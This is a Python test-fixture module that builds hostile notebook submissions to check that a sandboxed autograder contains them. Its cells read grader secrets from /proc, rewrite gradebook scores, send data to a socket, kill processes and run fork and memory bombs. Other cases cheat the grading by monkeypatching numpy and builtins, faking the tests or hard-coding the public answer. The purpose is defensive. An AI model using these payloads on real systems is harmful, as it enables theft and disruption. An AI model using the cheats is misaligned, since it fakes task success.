"""Hostile and broken submissions: a correct solution plus one attack, or a wrong answer dressed up
by one cheat. Each knows the points it really earns. The attacks are bounded (a fork bomb stops at
300 processes, the output flood at 2 GiB, the memory bomb at 8 GiB), so a sandbox that fails cannot
take the machine down with it."""

import copy
from dataclasses import dataclass, field

import nbformat

from course.build.sample_class import STUDENTS, Edit, solution_blocks, submission
from course.grader.warm import fork_unavailable_because
from course.layout import ASSIGNMENT, Stage
from public_tests import GRADED_FUNCTIONS, PUBLIC_EXPECTED
from tests import COURSE

OUTCOME = "hostile outcome:"  # the attack cells print their result after this marker
# The processes a kernel can see: itself, PID 1 of its own namespace when forked from the warm parent;
# bubblewrap's init (1) and itself (2) where kernels start fresh.
KERNEL_PIDS = r"\[1\]" if not fork_unavailable_because() else r"\[1, 2\]"
SECRET = "COURSE_TEST_SECRET"  # an environment variable of the grader, as a database password would be


@dataclass(frozen=True)
class Hostile:
    name: str
    cell: str = ""  # code added right after the imports cell ({root}, {port} filled in by the test)
    edits: list = field(default_factory=list)  # sample_class edits: a wrong answer, an attack in a function
    lost: tuple = ()  # exercises that must score 0
    outcome: str = ""  # what the attack cell must report (a regular expression)
    # The attack may also take its own kernel down, depending on load: an output flood fills the kernel's
    # buffers faster than the grader reads them, up to the memory cap, or keeps the kernel from answering
    # the interrupt before the cell's timeout, and it is killed. Then everything after it scores 0.
    may_kill_its_kernel: bool = False
    test_cells: dict = field(default_factory=dict)  # grade_id -> new source, or None to delete the cell
    kernelspec: dict | None = None


def _inside(exercise, code):
    """An edit that runs `code` first thing in the graded function, right after its docstring."""
    indented = "".join(f"    {line}\n" for line in code.strip().splitlines())
    return Edit(exercise, '    """\n', '    """\n' + indented)


WRONG_COST = STUDENTS["half-missing-in-cost"]
COST_AS_ARRAY = [
    Edit("compute_cost_with_regularization", "* squared_weights", "* np.array([squared_weights])", block=0)
]

CATALOGUE = [
    Hostile(
        "reads-solutions",
        cell=f"""
import os
targets = ["../../../source/regularization/Regularization.ipynb", "../gradebook.db",
           "{{root}}/source/regularization/Regularization.ipynb", "{{root}}/gradebook.db",
           "{{root}}/nbgrader_config.py"]
found = [path for path in targets if os.path.exists(path)]
print("{OUTCOME}", "read", found)
""",
        outcome=r"read \[\]",
    ),
    # Prints every environment and command line it can read (KERNEL_PIDS: the kernel's own, and bwrap's init's),
    # for the test to look for the secret's value; and which files those processes hold open, such as the
    # grader's log or terminal, which it could reopen through /proc.
    Hostile(
        "reads-secrets",
        cell=f"""
import os
def read(path):
    try:
        with open(path, "rb") as file:
            return file.read().decode(errors="replace").split("\\0")
    except OSError:
        return None
print(dict(os.environ))
read_from, files = [], []
for pid in sorted(int(name) for name in os.listdir("/proc") if name.isdigit()):
    environment, command = read(f"/proc/{{pid}}/environ"), read(f"/proc/{{pid}}/cmdline")
    print(pid, environment, command)
    if environment is not None:
        read_from.append(pid)
    for fd in os.listdir(f"/proc/{{pid}}/fd"):
        try:
            target = os.readlink(f"/proc/{{pid}}/fd/{{fd}}")
        except OSError:  # the descriptor that listed the folder, closed since
            continue
        if target.startswith("/") and target != "/dev/null":
            files.append(target)
print("{OUTCOME}", "environments read", read_from, "files open", files)
""",
        outcome=rf"environments read {KERNEL_PIDS} files open \[\]",
    ),
    Hostile(
        "tampers-with-gradebook",
        cell=f"""
import sqlite3
try:
    with sqlite3.connect("{{root}}/gradebook.db") as db:
        db.execute("update grade set auto_score = 100")
    print("{OUTCOME}", "wrote the gradebook")
except Exception as error:
    print("{OUTCOME}", "blocked", type(error).__name__)
""",
        outcome="blocked .*",
    ),
    Hostile(
        "writes-elsewhere",
        cell=f"""
written = []
for path in ["{{root}}/pwned.txt", "{{root}}/submitted/full-marks/regularization/Regularization.ipynb",
             "{{root}}/release/regularization/public_tests.py", "{{root}}/autograded/full-marks/pwned.txt"]:
    try:
        with open(path, "w") as file:
            file.write("pwned")
        written.append(path)
    except OSError:
        pass
print("{OUTCOME}", "wrote", written)
""",
        outcome=r"wrote \[\]",
    ),
    Hostile(
        "opens-a-connection",
        cell=f"""
import socket
try:
    socket.create_connection(("127.0.0.1", {{port}}), timeout=3).sendall(b"exfiltrated")
    print("{OUTCOME}", "connected")
except OSError as error:
    print("{OUTCOME}", "blocked", type(error).__name__)
""",
        outcome="blocked .*",
    ),
    Hostile(
        "kills-other-processes",
        cell=f"""
import os, signal
killed = []
for pid in [os.getppid()] + [int(name) for name in os.listdir("/proc") if name.isdigit()]:
    if pid != os.getpid():
        try:
            os.kill(pid, signal.SIGKILL)
            killed.append(pid)
        except OSError:
            pass
print("{OUTCOME}", "visible processes", sorted(int(name) for name in os.listdir("/proc") if name.isdigit()))
""",
        outcome=rf"visible processes {KERNEL_PIDS}",
    ),
    Hostile(
        "os-exit-in-function",
        edits=[_inside("backward_propagation_with_dropout", "import os; os._exit(0)")],
        lost=("backward_propagation_with_dropout",),
    ),
    Hostile(
        "sys-exit-in-function",
        edits=[_inside("compute_cost_with_regularization", "import sys; sys.exit()")],
        lost=("compute_cost_with_regularization",),
    ),
    Hostile(
        "loop-ignoring-interrupts",
        edits=[
            _inside(
                "forward_propagation_with_dropout",
                """
import time
while True:
    try:
        time.sleep(0.1)
    except KeyboardInterrupt:
        pass
""",
            )
        ],
        lost=("forward_propagation_with_dropout", "backward_propagation_with_dropout"),
    ),
    Hostile(
        "memory-bomb",
        edits=[
            _inside(
                "backward_propagation_with_regularization",
                """
hoard = [bytearray(256 * 2**20) for _ in range(32)]
""",
            )
        ],
        lost=("backward_propagation_with_regularization",),
    ),
    Hostile(
        "fork-bomb",
        cell=f"""
import os, time
children = []
for _ in range(300):
    try:
        pid = os.fork()
    except OSError:
        break
    if pid == 0:
        time.sleep(2)
        os._exit(0)
    children.append(pid)
for pid in children:
    os.waitpid(pid, 0)
print("{OUTCOME}", "forked", len(children))
""",
        outcome=r"forked \d+",
    ),
    Hostile(
        "floods-output",
        may_kill_its_kernel=True,
        cell="""
for _ in range(2048):
    print("x" * 2**20)
""",
    ),
    # The patched allclose also derails exercise 3's test in the kernel: it stops after one call, and
    # the grader cannot judge the calls that were never made, so that correct function scores 0 too.
    Hostile(
        "patches-numpy",
        edits=WRONG_COST,
        lost=("compute_cost_with_regularization", "forward_propagation_with_dropout"),
        cell="""
import numpy, numpy.testing
numpy.allclose = numpy.isclose = lambda *args, **kwargs: True
numpy.array_equal = lambda *args, **kwargs: True
numpy.testing.assert_allclose = lambda *args, **kwargs: None
""",
    ),
    Hostile(
        "patches-builtins",
        edits=COST_AS_ARRAY,
        lost=("compute_cost_with_regularization",),
        cell="""
import builtins, numbers
real_isinstance = isinstance
builtins.isinstance = lambda obj, kind: kind is numbers.Real or real_isinstance(obj, kind)
""",
    ),
    Hostile(
        "hides-tracebacks",
        edits=STUDENTS["regularized-biases"],
        lost=("backward_propagation_with_regularization",),
        cell="""
import sys
sys.excepthook = lambda *args: None
get_ipython().showtraceback = lambda *args, **kwargs: None
get_ipython()._showtraceback = lambda *args, **kwargs: None
""",
    ),
    Hostile(
        "redefines-the-tests",
        edits=WRONG_COST,
        lost=GRADED_FUNCTIONS,
        cell="""
import public_tests
def compute_cost_with_regularization_test(target):
    print("All tests passed.")
check_cost = check_regularized_gradients = check_dropout_forward = check_dropout_backward = lambda *a, **k: None
check_dropout_statistics = lambda *a, **k: None
public_tests.recorded = lambda target, function: target
""",
    ),
    Hostile(
        "edits-test-cells",
        edits=STUDENTS["regularized-biases"],
        lost=("backward_propagation_with_regularization",),
        test_cells={
            "test_backward_propagation_with_regularization": "print('All tests passed.')",
            "test_backward_propagation_with_dropout": None,
        },
    ),
    Hostile("another-language", kernelspec={"name": "ir", "display_name": "R", "language": "R"}),
    # Passes the public test by returning its expected number; the hidden cases see through it.
    Hostile(
        "hard-codes-the-public-case",
        edits=[_inside("compute_cost_with_regularization", f"return {PUBLIC_EXPECTED['cost']!r}")],
        lost=("compute_cost_with_regularization",),
    ),
]
BY_NAME = {case.name: case for case in CATALOGUE}


def build(hostile: Hostile, root, port: int) -> bytes:
    release_nb = nbformat.read(COURSE.notebook(Stage.RELEASE, None, ASSIGNMENT), as_version=4)
    blocks = solution_blocks(nbformat.read(COURSE.notebook(Stage.SOURCE, None, ASSIGNMENT), as_version=4))
    nb = nbformat.reads(submission(release_nb, blocks, hostile.edits).decode(), as_version=4)
    if hostile.cell:
        code = hostile.cell.replace("{root}", str(root)).replace("{port}", str(port)).strip()
        imports = next(i for i, cell in enumerate(nb.cells) if cell.cell_type == "code")
        nb.cells.insert(imports + 1, nbformat.v4.new_code_cell(code))
    for grade_id, source in hostile.test_cells.items():
        cell = next(cell for cell in nb.cells if cell.metadata.get("nbgrader", {}).get("grade_id") == grade_id)
        if source is None:
            nb.cells.remove(cell)
        else:
            cell.source = source
    if hostile.kernelspec:
        nb.metadata = copy.deepcopy(nb.metadata)
        nb.metadata.kernelspec = hostile.kernelspec
        nb.metadata.language_info = {"name": "R"}
    return nbformat.writes(nb).encode()


def small_class(root) -> dict[str, tuple[bytes, tuple]]:
    """{student: (their notebook, the exercises it loses)}: a correct submission, one mistake, the public
    case hard-coded, and fake public tests over a wrong answer; what every grading door must agree on."""
    one_mistake = submission(
        nbformat.read(COURSE.notebook(Stage.RELEASE, None, ASSIGNMENT), as_version=4),
        solution_blocks(nbformat.read(COURSE.notebook(Stage.SOURCE, None, ASSIGNMENT), as_version=4)),
        STUDENTS["half-missing-in-cost"],
    )
    hard_coded, fake_tests = BY_NAME["hard-codes-the-public-case"], BY_NAME["redefines-the-tests"]
    return {
        "correct": (build(Hostile("correct"), root, 0), ()),
        "one-mistake": (one_mistake, ("compute_cost_with_regularization",)),
        "hard-coded": (build(hard_coded, root, 0), hard_coded.lost),
        "fake-tests": (build(fake_tests, root, 0), fake_tests.lost),
    }
